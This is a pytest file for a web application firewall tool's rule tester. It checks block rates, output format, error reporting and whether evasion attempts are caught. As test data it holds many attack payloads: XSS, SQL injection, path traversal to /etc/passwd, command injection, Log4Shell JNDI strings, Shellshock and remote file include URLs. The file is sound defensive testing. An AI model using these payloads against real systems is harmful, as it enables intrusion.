"""sluice waf test: the shipped rule set against t/waf/'s corpus, and the
command's behaviour (verdict lines, exit status, errors by file and rule)."""

import json
import re
import urllib.parse

import pytest

from conftest import SRC_DIR, run_sluice

RULES = str(SRC_DIR / "lua" / "waf")
ATTACKS = str(SRC_DIR / "t" / "waf" / "attacks.jsonl")
BENIGN = str(SRC_DIR / "t" / "waf" / "benign.jsonl")


def summary(paranoia):
    r = run_sluice(["waf", "test", "--rules", RULES, "--paranoia", str(paranoia), "--summary", "--quiet",
                    ATTACKS, BENIGN], timeout=120)
    assert r.returncode in (0, 1), r.stderr
    classes = {}
    for m in re.finditer(r"^class (\S+): (\d+)/(\d+) blocked", r.stdout, re.M):
        classes[m.group(1)] = (int(m.group(2)), int(m.group(3)))
    assert "benign" in classes and len(classes) >= 10, r.stdout
    return classes


def test_corpus_goal_at_paranoia_1():
    c = summary(1)
    attacks = [v for k, v in c.items() if k != "benign"]
    blocked = sum(b for b, _ in attacks)
    total = sum(t for _, t in attacks)
    assert total > 1000
    assert blocked / total >= 0.80, "attacks blocked: %d/%d (%s)" % (blocked, total, c)
    b, t = c["benign"]
    assert t > 300
    assert b / t <= 1 / 50, "benign blocked: %d/%d" % (b, t)
    # every class is covered, not only the easy ones
    for k, (b, t) in c.items():
        if k != "benign":
            assert b / t >= 0.7, "%s: %d/%d" % (k, b, t)


def test_higher_paranoia_blocks_more():
    p1, p2 = summary(1), summary(2)
    blocked = lambda c: sum(b for k, (b, _) in c.items() if k != "benign")
    assert blocked(p2) >= blocked(p1)
    assert p2["benign"][0] >= p1["benign"][0]


def write_lines(path, rows):
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return str(path)


def test_verdict_lines_and_exit_status(tmp_path):
    f = write_lines(tmp_path / "reqs.jsonl", [
        {"method": "GET", "path": "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "headers": {"Host": "a"}, "expect": "block"},
        {"method": "GET", "path": "/?q=hello", "headers": {"Host": "a"}, "expect": "pass"},
    ])
    r = run_sluice(["waf", "test", "--rules", RULES, f])
    assert r.returncode == 0, r.stdout + r.stderr
    lines = r.stdout.splitlines()
    assert re.match(r"^.*reqs\.jsonl:1: block score=\d+ rules=[\d,]*18001", lines[0]), lines[0]
    assert re.match(r"^.*reqs\.jsonl:2: pass score=0 rules=- expect=pass ok", lines[1]), lines[1]
    # a failed expectation: exit 1, and the matched rules explained
    f2 = write_lines(tmp_path / "bad.jsonl", [{"path": "/?q=%27%20or%20%271%27%3D%271", "expect": "pass"}])
    r = run_sluice(["waf", "test", "--rules", RULES, f2])
    assert r.returncode == 1
    assert "FAIL" in r.stdout and "19001 args:q" in r.stdout


def test_raw_http_request_file(tmp_path):
    raw = tmp_path / "req.http"
    body = "user=alice&comment=%3Csvg%2Fonload%3Dalert(1)%3E"
    raw.write_bytes(("POST /comment HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\n"
                     "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s"
                     % (len(body), body)).encode())
    r = run_sluice(["waf", "test", "--rules", RULES, str(raw)])
    assert r.returncode == 0, r.stderr
    assert re.search(r"req\.http: block score=\d+ rules=.*18001", r.stdout), r.stdout


def test_paranoia_changes_the_verdict(tmp_path):
    f = write_lines(tmp_path / "ua.jsonl", [{"path": "/", "headers": {"Host": "a", "User-Agent": "python-requests/2.31"}}])
    assert " pass " in run_sluice(["waf", "test", "--rules", RULES, f]).stdout
    r = run_sluice(["waf", "test", "--rules", RULES, "--paranoia", "2", "--threshold", "2", f])
    assert " block " in r.stdout and "11010" in r.stdout


def test_broken_rule_is_reported_by_file_and_rule(tmp_path):
    d = tmp_path / "rules"
    d.mkdir()
    (d / "a.lua").write_text('return { { id = 1, targets = { "args" }, operator = { regex = "(" }, message = "m" },\n'
                             '  { id = 2, targets = { "argz" }, operator = { sqli = true }, message = "m", paranoya = 2 } }\n')
    f = write_lines(tmp_path / "r.jsonl", [{"path": "/"}])
    r = run_sluice(["waf", "test", "--rules", str(d), f])
    assert r.returncode == 2
    assert re.search(r"a\.lua: rules\[1\]\.operator\.regex: .*offset", r.stderr), r.stderr
    assert re.search(r"a\.lua: rules\[2\]\.targets: unknown target \"argz\"", r.stderr), r.stderr
    assert re.search(r"a\.lua: rules\[2\]\.paranoya: unknown key", r.stderr), r.stderr
    (d / "a.lua").write_text("return {\n  { id = 1,\n")
    r = run_sluice(["waf", "test", "--rules", str(d), f])
    assert r.returncode == 2 and "a.lua:" in r.stderr, r.stderr


@pytest.mark.parametrize("args", [["waf"], ["waf", "test"], ["waf", "test", "--paranoia", "7", "x"],
                                  ["waf", "test", "--bogus", "x"], ["waf", "frob"]])
def test_usage_errors(args):
    r = run_sluice(args)
    assert r.returncode == 2
    assert r.stderr.strip()


def test_bad_input_line_is_named(tmp_path):
    f = tmp_path / "x.jsonl"
    f.write_text('{"path": "/ok"}\n{"path": \n')
    r = run_sluice(["waf", "test", "--rules", RULES, str(f)])
    assert r.returncode == 2
    assert "x.jsonl:2:" in r.stderr


def verdicts(args):
    """Per request of a `sluice waf test` run: (verdict, score, sorted rule ids)."""
    r = run_sluice(["waf", "test", "--rules", RULES] + args, timeout=300)
    assert r.returncode in (0, 1), r.stderr
    out = {}
    for m in re.finditer(r"^(\S+:\d+): (block|pass) score=(\d+) rules=(\S+)", r.stdout, re.M):
        out[m.group(1)] = (m.group(2), int(m.group(3)), sorted(m.group(4).split(",")))
    return out


def evasion_rows():
    """Requests aimed at the engine's shortcuts: case changes against the
    regex literals and the automaton, encodings that only some chains undo,
    base64 and double encoding, words inside runs after numbers, named
    header targets, and values no chain changes."""
    rows = []
    payloads = ["INCLUDE ('HTTP://198.51.100.7/x.txt')", "include(\"php://input\")", "x 1or 1=1", "0xor 1=1",
                "a%20UNION%20ALL%20SELECT%20b", "%2527%2520or%25201%253D1", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "..%252f..%252fetc%252fpasswd", "..\\..\\WINDOWS\\win.ini",
                ";CAT /etc/passwd", "$(Whoami)", "`ID`", "{{7*7}}", "${JNDI:ldap://x}", "__PROTO__[a]=1",
                "CONSTRUCTOR.PROTOTYPE", "O:8:\"stdClass\":0:{}", "javascript:ALERT(1)", "\"-Prompt (1)-\"",
                "/.GIT/config", "http://203.0.113.9/shell.txt?", "&#x3C;script&#x3E;alert(1)", "\\u003cscript\\u003e",
                "red running shoes", "Mozilla/5.0 (X11; Linux x86_64)", "text/html,application/xhtml+xml,*/*;q=0.8"]
    for p in payloads:
        q = "".join(c if c.isalnum() or c in "%-_." else "%%%02X" % ord(c) for c in p)
        rows.append({"method": "GET", "path": "/s?q=" + q, "headers": {"Host": "a"}})
        rows.append({"method": "GET", "path": "/", "headers": {"Host": "a", "Cookie": "c=" + q}})
        for h in ("User-Agent", "Referer", "X-Api-Version"):
            rows.append({"method": "GET", "path": "/", "headers": {"Host": "a", h: p}})
        rows.append({"method": "POST", "path": "/api", "headers": {"Host": "a", "Content-Type": "application/json"},
                     "body": json.dumps({"v": p, p[:20]: 1})})
    return rows


@pytest.mark.parametrize("paranoia", [1, 4])
def test_shortcuts_change_no_verdict(tmp_path, paranoia):
    # the engine skips chains that leave a value as it is, rules whose
    # necessary bytes or literals are absent, and detector readings that
    # cannot match; --exhaustive runs everything: the verdicts must agree
    extra = write_lines(tmp_path / "evasions.jsonl", evasion_rows())
    args = ["--paranoia", str(paranoia), ATTACKS, BENIGN, extra]
    fast, full = verdicts(args), verdicts(["--exhaustive"] + args)
    assert len(fast) > 2900 and fast.keys() == full.keys()
    differ = [(k, fast[k], full[k]) for k in fast if fast[k] != full[k]]
    assert not differ, differ[:5]
    # and the extra requests do reach the rules
    assert sum(1 for k, v in fast.items() if "evasions" in k and v[0] == "block") > 50


def test_a_regex_that_gives_up_is_reported(tmp_path):
    import shutil
    rules = tmp_path / "rules"
    shutil.copytree(RULES, rules)
    (rules / "90-slow.lua").write_text(
        'return { { id = 99001, severity = "notice", targets = { "args" }, '
        'operator = { regex = "^(a+)+$" }, message = "slow", tags = { "test" } } }\n')
    f = write_lines(tmp_path / "r.jsonl", [{"path": "/s?q=" + "a" * 3000 + "b"}, {"path": "/s?q=aaa"}])
    r = run_sluice(["waf", "test", "--rules", str(rules), f])
    lines = r.stdout.splitlines()
    assert "gave_up=1" in lines[0] and "rules=-" in lines[0], lines[0]
    assert "gave_up" not in lines[1] and "99001" in lines[1], lines[1]


def test_remembered_names_never_hide_a_match(tmp_path):
    # header, cookie and argument names found clean are remembered per
    # evaluator too (keyed by the name's bytes); a name that matched is not,
    # and a remembered name does not stand for the value beside it
    sqli = urllib.parse.quote("' or 1=1--")
    f = write_lines(tmp_path / "r.jsonl", [
        {"path": "/?q=hello", "headers": {"Acunetix-Product": "x"}},
        {"path": "/?q=hello", "headers": {"Acunetix-Product": "x"}},
        {"path": "/?__proto__[x]=1"},
        {"path": "/?__proto__[x]=1"},
        {"path": "/?q=hello", "headers": {"X-Trace": "1", "Cookie": "theme=dark"}},
        {"path": "/?q=" + sqli, "headers": {"X-Trace": "1", "Cookie": "theme=dark"}},
        {"path": "/?q=hello", "headers": {"X-Trace": "1", "Cookie": "theme=" + sqli}},
        {"path": "/?q=hello", "headers": {"X-Trace": "1", "Cookie": "theme=dark"}},
    ])
    lines = run_sluice(["waf", "test", "--rules", RULES, f]).stdout.splitlines()
    assert [l.split()[1] for l in lines[:8]] == ["block", "block", "block", "block", "pass", "block", "block",
                                                 "pass"], lines
    assert "11002" in lines[1] and "17002" in lines[3], lines
    fast, full = verdicts([f]), verdicts(["--exhaustive", f])
    assert fast == full


def test_clean_values_are_remembered_only_when_evaluated_in_full(tmp_path):
    # header and cookie values found clean are remembered per evaluator; a
    # value seen after a rule already matched in its request was not tried
    # against that rule, so it must not be remembered as clean
    sqli = urllib.parse.quote("' or 'a'='a")
    f = write_lines(tmp_path / "r.jsonl", [
        {"path": "/?q=" + urllib.parse.quote("' or '1'='1"), "headers": {"Cookie": "c=" + sqli, "Referer": "x' or 'a'='a"}},
        {"path": "/", "headers": {"Cookie": "c=" + sqli}},
        {"path": "/", "headers": {"Referer": "x' or 'a'='a"}},
        {"path": "/", "headers": {"Cookie": "c=plain", "User-Agent": "Mozilla/5.0"}},
        {"path": "/", "headers": {"Cookie": "c=plain", "User-Agent": "Mozilla/5.0 () { :; }; /bin/id"}},
        {"path": "/", "headers": {"Cookie": "c=plain", "User-Agent": "Mozilla/5.0"}},
    ])
    lines = run_sluice(["waf", "test", "--rules", RULES, f]).stdout.splitlines()
    assert [l.split()[1] for l in lines[:6]] == ["block", "block", "block", "pass", "block", "pass"], lines
    assert "rules=-" in lines[3] and "rules=-" in lines[5]
